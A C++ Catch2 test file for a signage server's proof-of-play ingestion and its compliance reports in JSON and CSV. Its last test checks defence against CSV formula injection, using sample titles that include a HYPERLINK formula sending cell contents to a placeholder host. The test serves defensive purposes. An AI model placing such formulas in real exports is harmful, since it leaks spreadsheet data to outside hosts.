// Proof of play: screens post their plays; staff read compliance reports
// per screen or group and local day, as JSON and as CSV for inspectors.

#include <algorithm>
#include <filesystem>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "common/csv.hpp"
#include "server_test_helpers.hpp"

using namespace signage::test;
using nlohmann::json;

namespace {

json play(const std::string& id, const std::string& loop, const std::string& slide, bool ps,
          const std::string& start, int duration_ms, bool loop_end = false) {
    return {{"id", id},
            {"kind", "item"},
            {"loop_id", loop},
            {"loop_end", loop_end},
            {"slide_id", slide},
            {"title", "节目" + slide},
            {"start", start},
            {"duration_ms", duration_ms},
            {"public_service", ps},
            {"manifest_version", "v1"}};
}

// A small day at a screen in Asia/Shanghai (UTC+8), minimum share 0.5:
//   loop A (complete): 1 public 20 s, 2 not 20 s            share 0.5
//   loop B (complete): 1 public 10 s, 2 not 30 s            share 0.25: short
//   loop C (interrupted): 2 not 10 s                        not judged
//   an emergency from 08:59:50 for 20 s: 10 s in hour 8, 10 s in hour 9
//   and a play on each neighbouring day, outside the report.
json small_day() {
    json emergency = {{"id", "boot0001-7"},
                      {"kind", "emergency"},
                      {"slide_id", "9"},
                      {"title", "暴雨红色预警"},
                      {"start", "2026-11-28T00:59:50.000Z"},
                      {"duration_ms", 20000},
                      {"public_service", true},
                      {"manifest_version", "v1"}};
    return {
        {"plays",
         {play("boot0001-1", "boot0001-L1", "1", true, "2026-11-28T00:00:00.000Z", 20000),
          play("boot0001-2", "boot0001-L1", "2", false, "2026-11-28T00:00:20.000Z", 20000, true),
          play("boot0001-3", "boot0001-L2", "1", true, "2026-11-28T00:00:40.000Z", 10000),
          play("boot0001-4", "boot0001-L2", "2", false, "2026-11-28T00:00:50.000Z", 30000, true),
          play("boot0001-5", "boot0001-L3", "2", false, "2026-11-28T00:01:20.000Z", 10000),
          play("boot0001-6", "boot0001-L0", "1", true, "2026-11-27T15:59:59.000Z", 1000),
          play("boot0001-8", "boot0001-L4", "1", true, "2026-11-28T16:00:00.000Z", 1000),
          emergency}}};
}

}  // namespace

TEST_CASE("Plays: a batch is stored once and a retry counts nothing twice", "[server][plays]") {
    Staff staff;
    const std::string token = staff.server.add_screen("gate", "town");
    HttpClient gate = staff.server.client(token);
    const json batch = small_day();
    auto first = gate.post("/api/v1/player/plays", batch);
    INFO(first.body);
    REQUIRE(first.status == 200);
    CHECK(first.json() == json{{"accepted", 8}, {"duplicates", 0}});
    CHECK(gate.post("/api/v1/player/plays", batch).json() ==
          json{{"accepted", 0}, {"duplicates", 8}});

    // The same play id from another screen is another play.
    HttpClient hall = staff.server.client(staff.server.add_screen("hall", "town"));
    json one = {{"plays", {batch["plays"][0]}}};
    CHECK(hall.post("/api/v1/player/plays", one).json() ==
          json{{"accepted", 1}, {"duplicates", 0}});

    const std::string id = staff.screen_id("gate");
    auto report = staff.reviewer.get("/api/v1/reports/plays?screen=" + id + "&from=2026-11-28");
    REQUIRE(report.status == 200);
    CHECK(report.json().at("summary").at("plays") == 6);
}

TEST_CASE("Plays: a bad field is refused with 422 naming it and nothing is stored",
          "[server][plays]") {
    Staff staff;
    HttpClient gate = staff.server.client(staff.server.add_screen("gate", "town"));
    const json good = small_day();
    const auto refused_field = [&](json body) {
        auto res = gate.post("/api/v1/player/plays", body);
        INFO(res.body);
        CHECK(res.status == 422);
        return error_field(res);
    };
    json bad = good;
    bad["plays"][1]["duration_ms"] = -5;
    CHECK(refused_field(bad) == "plays[1].duration_ms");
    bad = good;
    bad["plays"][0]["start"] = "2026-11-28 08:00";
    CHECK(refused_field(bad) == "plays[0].start");
    bad = good;
    bad["plays"][2]["public_service"] = "yes";
    CHECK(refused_field(bad) == "plays[2].public_service");
    bad = good;
    bad["plays"][3]["id"] = "x";
    CHECK(refused_field(bad) == "plays[3].id");
    bad = good;
    bad["plays"][4].erase("loop_id");
    CHECK(refused_field(bad) == "plays[4].loop_id");
    bad = good;
    bad["plays"][7]["kind"] = "advert";
    CHECK(refused_field(bad) == "plays[7].kind");
    CHECK(refused_field(json{{"plays", "all of them"}}) == "plays");
    json many = {{"plays", json::array()}};
    for (int i = 0; i < 501; ++i) {
        many["plays"].push_back(play(std::string{"many-play-"} + std::to_string(i), "L1", "1", true,
                                     "2026-11-28T00:00:00.000Z", 1000));
    }
    CHECK(refused_field(many) == "plays");
    // Staff cannot post plays.
    CHECK(staff.editor.post("/api/v1/player/plays", good).status == 403);

    const std::string id = staff.screen_id("gate");
    auto report = staff.editor.get("/api/v1/reports/plays?screen=" + id + "&from=2026-11-28");
    REQUIRE(report.status == 200);
    CHECK(report.json().at("summary").at("plays") == 0);
    CHECK(report.json().at("loops").empty());
}

TEST_CASE("Plays: the report gives items, hours and loops of a local day against the minimum",
          "[server][plays]") {
    Staff staff;
    const std::string token = staff.server.add_screen("gate", "town");
    REQUIRE(staff.admin
                .put("/api/v1/groups/town",
                     {{"settings", {{"min_public_share", 0.5}, {"timezone", "Asia/Shanghai"}}}})
                .status == 200);
    HttpClient gate = staff.server.client(token);
    REQUIRE(gate.post("/api/v1/player/plays", small_day()).status == 200);

    const std::string id = staff.screen_id("gate");
    auto res = staff.reviewer.get("/api/v1/reports/plays?screen=" + id + "&from=2026-11-28");
    INFO(res.body);
    REQUIRE(res.status == 200);
    const json r = res.json();
    CHECK(r.at("group") == "town");
    CHECK(r.at("timezone") == "Asia/Shanghai");
    CHECK(r.at("min_public_share") == 0.5);
    const json& sum = r.at("summary");
    CHECK(sum.at("plays") == 6);  // not the neighbouring days' two
    CHECK(sum.at("airtime_ms") == 110000);
    CHECK(sum.at("public_service_ms") == 50000);
    CHECK(sum.at("emergency_ms") == 20000);
    CHECK(sum.at("loops") == 3);
    CHECK(sum.at("loops_complete") == 2);
    CHECK(sum.at("loops_short") == 1);

    // Items, most airtime first.
    const json& items = r.at("items");
    REQUIRE(items.size() == 3);
    CHECK(items[0].at("slide_id") == "2");
    CHECK(items[0].at("plays") == 3);
    CHECK(items[0].at("airtime_ms") == 60000);
    CHECK(items[0].at("public_service") == false);
    CHECK(items[1].at("slide_id") == "1");
    CHECK(items[1].at("plays") == 2);
    CHECK(items[1].at("airtime_ms") == 30000);
    CHECK(items[2].at("kind") == "emergency");
    CHECK(items[2].at("title") == "暴雨红色预警");

    // 24 local hours; hour 8 is below the minimum (40 of 100 s), hour 9 is
    // the emergency's second half.
    const json& hours = r.at("hours");
    REQUIRE(hours.size() == 24);
    CHECK(hours[0].at("date") == "2026-11-28");
    CHECK(hours[0].at("hour") == 0);
    CHECK(hours[0].at("airtime_ms") == 0);
    CHECK(hours[0].at("short") == false);
    CHECK(hours[8].at("hour") == 8);
    CHECK(hours[8].at("plays") == 6);
    CHECK(hours[8].at("airtime_ms") == 100000);
    CHECK(hours[8].at("public_service_ms") == 40000);
    CHECK(hours[8].at("share").get<double>() == Approx(0.4));
    CHECK(hours[8].at("short") == true);
    CHECK(hours[9].at("plays") == 0);
    CHECK(hours[9].at("airtime_ms") == 10000);
    CHECK(hours[9].at("share") == 1.0);
    CHECK(hours[9].at("short") == false);

    // Loops in order; B fell short, C was interrupted and is not judged.
    const json& loops = r.at("loops");
    REQUIRE(loops.size() == 3);
    CHECK(loops[0].at("loop_id") == "boot0001-L1");
    CHECK(loops[0].at("share") == 0.5);
    CHECK(loops[0].at("complete") == true);
    CHECK(loops[0].at("short") == false);
    CHECK(loops[0].at("start_local") == "2026-11-28 08:00:00");
    CHECK(loops[1].at("share") == 0.25);
    CHECK(loops[1].at("short") == true);
    CHECK(loops[2].at("complete") == false);
    CHECK(loops[2].at("short") == false);
    REQUIRE(r.at("short_loops").size() == 1);
    CHECK(r.at("short_loops")[0].at("loop_id") == "boot0001-L2");
    CHECK(r.at("short_loops")[0].at("screen") == "gate");

    // The group's report over two days holds the same plays and the next
    // day's one.
    auto group = staff.admin.get("/api/v1/reports/plays?group=town&from=2026-11-28&to=2026-11-29");
    REQUIRE(group.status == 200);
    CHECK(group.json().at("summary").at("plays") == 7);
    CHECK(group.json().at("hours").size() == 48);

    // Bad queries name the parameter.
    const auto field_of = [&](const std::string& q) {
        return error_field(staff.reviewer.get("/api/v1/reports/plays?" + q));
    };
    CHECK(field_of("screen=" + id + "&from=2026-02-30") == "from");
    CHECK(field_of("screen=" + id + "&from=2026-11-28&to=2026-11-27") == "to");
    CHECK(field_of("screen=" + id + "&from=2026-11-01&to=2026-12-31") == "to");
    CHECK(field_of("screen=abc&from=2026-11-28") == "screen");
    CHECK(field_of("screen=999&from=2026-11-28") == "screen");
    CHECK(field_of("group=nowhere&from=2026-11-28") == "group");
    CHECK(field_of("from=2026-11-28") == "group");
    CHECK(field_of("group=town&from=2026-11-28&format=xls") == "format");
    CHECK(field_of("group=town&from=2026-11-28&format=csv&table=all") == "table");
}

TEST_CASE("Plays: the CSV export has a byte order mark, bilingual headers and the report's rows",
          "[server][plays]") {
    // A temporary directory of this server's own, to see what it leaves there.
    TempDir tmp("plays-tmp");
    ServerOptions options;
    options.env = {{"TMPDIR", tmp.path().string()}};
    Staff staff(options);
    const std::string token = staff.server.add_screen("gate", "town");
    REQUIRE(staff.admin.put("/api/v1/groups/town", {{"settings", {{"min_public_share", 0.5}}}})
                .status == 200);
    HttpClient gate = staff.server.client(token);
    REQUIRE(gate.post("/api/v1/player/plays", small_day()).status == 200);
    const std::string base =
        "/api/v1/reports/plays?screen=" + staff.screen_id("gate") + "&from=2026-11-28&format=csv";

    auto hours = staff.editor.get(base);
    REQUIRE(hours.status == 200);
    CHECK(hours.header("content-type") == "text/csv; charset=utf-8");
    CHECK(hours.header("content-disposition").find("attachment") == 0);
    REQUIRE(hours.body.rfind("\xEF\xBB\xBF", 0) == 0);
    auto rows = parse_csv(hours.body.substr(3));
    REQUIRE(rows.size() == 25);
    CHECK(rows[0][0] == "日期 date");
    CHECK(rows[0][5] == "公益占比 share");
    CHECK(rows[9] == std::vector<std::string>{"2026-11-28", "8", "6", "100000", "40000", "0.4000",
                                              "0.5000", "yes"});

    auto loops = staff.editor.get(base + "&table=loops");
    REQUIRE(loops.status == 200);
    rows = parse_csv(loops.body.substr(3));
    REQUIRE(rows.size() == 4);
    CHECK(rows[0][1] == "轮播编号 loop_id");
    CHECK(rows[2][1] == "boot0001-L2");
    CHECK(rows[2][6] == "0.2500");
    CHECK(rows[2][9] == "yes");

    auto plays = staff.editor.get(base + "&table=plays");
    REQUIRE(plays.status == 200);
    rows = parse_csv(plays.body.substr(3));
    REQUIRE(rows.size() == 7);
    CHECK(rows[1][0] == "gate");
    CHECK(rows[1][1] == "boot0001-1");
    CHECK(rows[1][4] == "2026-11-28 08:00:00");
    CHECK(rows[1][8] == "节目1");

    auto items = staff.editor.get(base + "&table=items");
    rows = parse_csv(items.body.substr(3));
    REQUIRE(rows.size() == 4);
    CHECK(rows[3][1] == "暴雨红色预警");

    // As JSON the plays come first, written out as they are read, then the
    // sums; the file they went through is gone once sent.
    auto listed = staff.editor.get("/api/v1/reports/plays?screen=" + staff.screen_id("gate") +
                                   "&from=2026-11-28&table=plays");
    REQUIRE(listed.status == 200);
    const auto j = listed.json();
    REQUIRE(j.at("plays").size() == 6);
    CHECK(j.at("plays")[0].at("start_local") == "2026-11-28 08:00:00");
    CHECK(j.at("summary").at("plays") == 6);
    CHECK(j.at("hours").size() == 24);
    // Removed once the answer is written, a moment after the client has it.
    const auto plays_files = [&] {
        std::size_t n = 0;
        for (const auto& e : std::filesystem::directory_iterator(tmp.path())) {
            n += e.path().filename().string().rfind("signage-plays-", 0) == 0 ? 1 : 0;
        }
        return n;
    };
    CHECK(wait_until([&] { return plays_files() == 0; }, std::chrono::seconds(5)));
}

TEST_CASE("Plays: a title a spreadsheet would run as a formula is written as text",
          "[server][plays][csv]") {
    Staff staff;
    HttpClient gate = staff.server.client(staff.server.add_screen("gate", "town"));
    // Titles come from the screen: every start Excel, LibreOffice or WPS evaluates.
    const std::vector<std::string> titles = {"=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
                                             "+1+1",
                                             "-2+3",
                                             "@SUM(A1:A9)",
                                             "\t=1+1",
                                             "\r=1+1",
                                             "\xEF\xBC\x9D"
                                             "1+1",  // ＝
                                             "\xEF\xBC\x8B"
                                             "1",  // ＋
                                             "\xEF\xBC\x8D"
                                             "1",  // －
                                             "\xEF\xBC\xA0"
                                             "SUM",  // ＠
                                             "'=already quoted",
                                             "普通标题"};
    json batch = {{"plays", json::array()}};
    for (std::size_t i = 0; i < titles.size(); ++i) {
        json p =
            play("boot0002-" + std::to_string(i), "boot0002-L1", std::to_string(i + 1), false,
                 "2026-11-28T00:" + std::string(i < 10 ? "0" : "") + std::to_string(i) + ":00.000Z",
                 5000);
        p["title"] = titles[i];
        batch["plays"].push_back(p);
    }
    auto posted = gate.post("/api/v1/player/plays", batch);
    INFO(posted.body);
    REQUIRE(posted.status == 200);
    const std::string base =
        "/api/v1/reports/plays?screen=" + staff.screen_id("gate") + "&from=2026-11-28&format=csv";

    for (const std::string table : {"plays", "items"}) {
        auto res = staff.editor.get(base + "&table=" + table);
        REQUIRE(res.status == 200);
        const auto rows = parse_csv(res.body.substr(3));
        const std::size_t title_col = table == "plays" ? 8 : 1;
        std::vector<std::string> seen;
        for (std::size_t r = 1; r < rows.size(); ++r) {
            const std::string& cell = rows[r].at(title_col);
            INFO(table << " row " << r << ": " << cell);
            // The apostrophe in front makes the spreadsheet show the text.
            CHECK_FALSE(signage::csv::starts_like_formula(cell));
            seen.emplace_back(signage::csv::strip_formula_guard(cell));
            // Numbers stay numbers: the duration column is not guarded.
            if (table == "plays") CHECK(rows[r].at(5) == "5000");
        }
        std::sort(seen.begin(), seen.end());
        std::vector<std::string> want = titles;
        std::sort(want.begin(), want.end());
        CHECK(seen == want);
    }
}
